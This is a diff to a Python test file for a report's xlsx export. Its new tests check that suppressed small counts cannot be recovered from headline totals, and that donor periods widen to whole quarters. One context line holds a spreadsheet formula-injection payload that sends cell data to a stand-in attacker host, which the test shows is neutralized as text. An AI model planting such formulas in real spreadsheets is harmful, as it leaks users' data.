@@ -79,3 +79,66 @@ def test_the_xlsx_report_writes_typed_formulas_as_text_that_no_spreadsheet_runs(
     assert place == '=HYPERLINK("http://evil.example/?"&A1,"Click"), Kazakhstan', "shown as typed"
     for cell in (cells[place], host_cell):
         assert cell.data_type == "s" and cell.quotePrefix, cell.value
+
+
+@pytest.fixture
+def demo(db):
+    from cascade.demo.network import build_demo_network
+
+    return build_demo_network()
+
+
+def sheet_rows(built):
+    import io
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(report.to_xlsx(built)))
+    return [[cell for cell in row] for row in book.active.iter_rows(values_only=True)]
+
+
+def row_after(rows, title, label=None):
+    """The first data row of the table titled ``title`` (or its row whose first cell is ``label``)."""
+    start = next(i for i, row in enumerate(rows) if row[0] == title) + 2
+    for row in rows[start:]:
+        if row[0] is None:
+            break
+        if label is None or str(row[0]) == str(label):
+            return row
+    raise AssertionError(f"no row {label!r} in {title!r}")
+
+
+def test_the_xlsx_headline_does_not_give_away_the_men_its_table_hides(demo):
+    """Until September 2014 one man was reached. The women-and-men table hid him, but the
+    headline's reach is the table's total: reach minus women minus others gave him away."""
+    rows = sheet_rows(report.build(Filters.parse(until="2014-09-30")))
+    women, men, other, total = row_after(rows, "Women and men reached")[:4]
+    reach = row_after(rows, "Headline figures", "total reach (named people and head-counts)")[1]
+    assert men == "<5"
+    assert not all(isinstance(x, int) for x in (reach, women, other)), (reach, women, other)
+    assert not all(isinstance(x, int) for x in (total, women, other))
+    exact = sheet_rows(report.build(Filters.parse(until="2014-09-30"), exact=True))
+    assert row_after(exact, "Women and men reached")[1] == 1
+    assert row_after(exact, "Women and men reached")[3] == row_after(
+        exact, "Headline figures", "total reach (named people and head-counts)")[1]
+
+
+def test_a_generation_hidden_in_the_report_stays_hidden_in_its_headline_and_totals(demo):
+    rows = sheet_rows(report.build(Filters.parse(since="2019-01-01")))
+    second = row_after(rows, "Reach by generation", "2")
+    assert second[2] == "<5"
+    # generation 2's reach minus its head-counts would give its named people
+    assert not (isinstance(second[3], int) and isinstance(second[4], int))
+    # and the headline's reach minus the other generations' reach would give generation 2's reach
+    reach = row_after(rows, "Headline figures", "total reach (named people and head-counts)")[1]
+    start = next(i for i, row in enumerate(rows) if row[0] == "Reach by generation") + 2
+    table = [row for row in rows[start:start + 20] if row[0] is not None]
+    table = table[:next((i for i, row in enumerate(table) if not isinstance(row[0], int)), len(table))]
+    others = [row[4] for row in table if row[0] != 2]
+    assert len(table) >= 2 and second[4] in ("*", "<5")
+    assert not all(isinstance(x, int) for x in [reach, *others])
+
+
+def test_the_report_widens_a_donors_period_to_whole_quarters(demo):
+    built = report.build(Filters.parse(since="2019-01-10", until="2019-01-11"))
+    assert "Jan. 1, 2019 – March 31, 2019" in built.subtitle and "whole quarters" in built.subtitle
